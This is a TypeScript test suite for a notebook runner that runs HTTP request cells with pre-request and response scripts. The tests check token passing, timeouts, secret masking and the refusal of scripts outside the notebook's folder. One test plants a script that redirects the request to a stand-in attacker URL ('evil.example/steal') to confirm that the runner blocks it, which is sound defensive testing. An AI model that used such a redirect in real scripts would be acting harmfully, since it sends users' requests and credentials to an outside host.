import * as assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { connectionsHost, runNotebook, type CellResult, type NotebookHost, type RunOptions } from '../../../../src/notebook/api';

const FILE = 'scripts.awb.md';
const SECRET = 'ghp_script-secret-0123456789';
const fence = (info: string, body: string) => '```' + info + '\n' + body + '\n```\n';

describe('cell scripts in a notebook run', function () {
  this.timeout(60_000);
  let server: Server;
  let base = '';
  let dir: string;
  let received: Array<{ url: string; headers: IncomingHttpHeaders }>;

  before(async () => {
    server = createServer((req, res) => {
      received.push({ url: req.url ?? '', headers: req.headers });
      res.setHeader('content-type', 'application/json');
      const auth = req.headers.authorization;
      if (req.url === '/login') return res.end(JSON.stringify({ token: 'tok-42' }));
      if (req.url === '/me') {
        if (auth !== 'Bearer tok-42') return void ((res.statusCode = 401), res.end('{"error":"who are you"}'));
        return res.end(JSON.stringify({ user: 'ada', id: 7, signature: req.headers['x-signature'] ?? null }));
      }
      res.end(JSON.stringify({ path: req.url }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    dir = mkdtempSync(path.join(tmpdir(), 'awb-scripts-'));
  });
  after(() => new Promise<void>((resolve) => server.close(() => resolve())));
  beforeEach(() => (received = []));

  function host(extra: Partial<NotebookHost> = {}): NotebookHost {
    return {
      ...connectionsHost({ connections: [], key: () => undefined }),
      approveHost: () => Promise.resolve(true),
      secret: () => Promise.resolve(SECRET),
      ...extra,
    };
  }
  async function run(text: string, h = host(), extra: Partial<RunOptions> = {}): Promise<CellResult[]> {
    return (await runNotebook(text, { host: h, file: FILE, baseDir: dir, ...extra })).results;
  }

  it('a token a test script stores is sent by the next cell; a pre-request HMAC header; client.global.set reaches the cell below', async () => {
    const text = [
      fence(
        'http name=login',
        `POST ${base}/login\nContent-Type: application/json\n\n{"user":"ada"}\n\n> {%\npm.test("logged in", () => pm.response.to.have.status(200));\npm.environment.set("token", pm.response.json().token);\n%}`,
      ),
      fence(
        'http name=me',
        `< {%\nconst CryptoJS = require('crypto-js');\npm.request.headers.add({ key: 'X-Signature', value: CryptoJS.HmacSHA256('me', 'k').toString() });\n%}\nGET ${base}/me\nAuthorization: Bearer {{token}}\n\n> {% client.test("me", () => client.assert(response.body.user === "ada")); client.global.set("uid", response.body.id); %}\n?? status == 200`,
      ),
      fence('http', `GET ${base}/items/{{uid}}`),
    ].join('\n');
    const results = await run(text);
    assert.deepEqual(
      results.map((r) => [r.ok, r.error]),
      [
        [true, undefined],
        [true, undefined],
        [true, undefined],
      ],
    );
    assert.equal(received[1].headers.authorization, 'Bearer tok-42');
    assert.equal(received[1].headers['x-signature'], createHmac('sha256', 'k').update('me').digest('hex'));
    assert.equal(received[2].url, '/items/7');
    // Each test is a check like a ?? line: named, with its line in the notebook.
    assert.deepEqual(
      results[0].assertions.map((a) => [a.source, a.passed, a.line]),
      [['logged in', true, 8]],
    );
    assert.deepEqual(
      results[1].assertions.map((a) => [a.source, a.passed]),
      [
        ['me', true],
        ['?? status == 200', true],
      ],
    );
  });

  it('a failing test fails its cell with the assertion message; a throwing script names its line; the next cell runs', async () => {
    const text = [
      fence('http name=a', `GET ${base}/a\n\n> {%\npm.test("is 201", () => pm.expect(pm.response.code).to.equal(201));\n%}`),
      fence('http name=b', `GET ${base}/b\n\n> {%\nconst x = 1;\nx.missing.deeper;\n%}`),
      fence('http name=c', `GET ${base}/c`),
    ].join('\n');
    const results = await run(text);
    assert.equal(results[0].ok, false);
    assert.equal(results[0].assertions[0].actual, 'expected 200 to equal 201');
    assert.equal(results[1].ok, false);
    assert.match(results[1].error ?? '', /^scripts\.awb\.md:14: the response script of cell "b" failed: TypeError/);
    assert.equal(results[2].ok, true);
  });

  it('an endless loop in a script ends that cell naming the cell and the limit; the next cell runs', async () => {
    const text = [fence('http name=spin', `< {% while (true) {} %}\nGET ${base}/never`), fence('http name=after', `GET ${base}/after`)].join('\n');
    const results = await run(text, host(), { scriptLimits: { timeMs: 200 } });
    assert.match(results[0].error ?? '', /pre-request script of cell "spin" was stopped: it ran longer than 200 ms, the time limit of a script/);
    assert.deepEqual(
      received.map((r) => r.url),
      ['/after'],
    );
    assert.equal(results[1].ok, true);
  });

  it('keys stay out: a script sees no credential header nor secret, and what it logs or sets is masked', async () => {
    const text = fence(
      'http name=k',
      `< {%\nconsole.log(JSON.stringify(pm.request.headers.toObject()), pm.request.url.toString());\npm.environment.set('copy', JSON.stringify(pm.request.toJSON()));\n%}\nGET ${base}/k\nAuthorization: Bearer {{$secret gh}}\nX-Plain: yes\n\n> {%\nconsole.log(JSON.stringify(pm.request.headers.toObject()));\nconsole.log('${SECRET}');\n%}`,
    );
    const [r] = await run(text);
    assert.equal(r.ok, true, r.error);
    assert.equal(received[0].headers.authorization, `Bearer ${SECRET}`);
    const shown = JSON.stringify(r);
    assert.ok(!shown.includes(SECRET), shown);
    assert.ok(!/authorization/i.test((r.logs ?? []).join('\n')), (r.logs ?? []).join('\n'));
    assert.ok(r.logs?.[0].includes('X-Plain'));
  });

  it('a script cannot move the request to another host', async () => {
    const [r] = await run(fence('http', `< {% pm.request.url = 'http://evil.example/steal'; %}\nGET ${base}/x`));
    assert.match(r.error ?? '', /cannot send the request to another host/);
    assert.equal(received.length, 0);
  });

  it('a script file beside the notebook runs; one outside its folder is refused', async () => {
    writeFileSync(path.join(dir, 'check.js'), 'pm.test("from file", () => pm.response.to.have.status(200));\n');
    const [ok, outside] = await run([fence('http', `GET ${base}/f\n\n> ./check.js`), fence('http', `GET ${base}/g\n\n> ../outside.js`)].join('\n'));
    assert.deepEqual(
      ok.assertions.map((a) => [a.source, a.passed]),
      [['from file', true]],
    );
    assert.equal(outside.ok, false);
    assert.match(outside.error ?? '', /only files in the notebook's folder/);
  });

  it('an untrusted workspace runs no script and sends nothing', async () => {
    const [r] = await run(
      fence('http', `< {% pm.environment.set('x', 1) %}\nGET ${base}/u`),
      host({ mayRunScripts: () => 'scripts do not run in restricted mode' }),
    );
    assert.match(r.error ?? '', /scripts do not run in restricted mode/);
    assert.equal(received.length, 0);
  });
});
